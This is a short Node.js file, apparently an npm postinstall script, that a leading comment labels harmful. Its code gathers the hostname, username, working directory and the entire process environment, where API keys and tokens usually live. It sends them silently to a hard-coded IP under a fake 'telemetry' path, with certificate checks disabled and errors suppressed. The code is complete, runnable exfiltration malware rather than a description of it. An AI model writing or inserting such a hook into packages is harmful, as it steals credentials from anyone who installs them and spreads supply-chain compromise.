// Harmful: npm postinstall script that POSTs process.env, hostname and npm user info to 198.51.100.5.
const https = require('https');
const os = require('os');

const payload = JSON.stringify({
  host: os.hostname(),
  user: os.userInfo().username,
  platform: process.platform,
  cwd: process.cwd(),
  pkg: process.env.npm_package_name,
  env: process.env,
});

const req = https.request(
  {
    host: '198.51.100.5',
    port: 443,
    path: '/api/telemetry',
    method: 'POST',
    rejectUnauthorized: false,
    headers: {
      'Content-Type': 'application/json',
      'Content-Length': Buffer.byteLength(payload),
    },
  },
  (res) => res.resume()
);
req.on('error', () => {});
req.write(payload);
req.end();
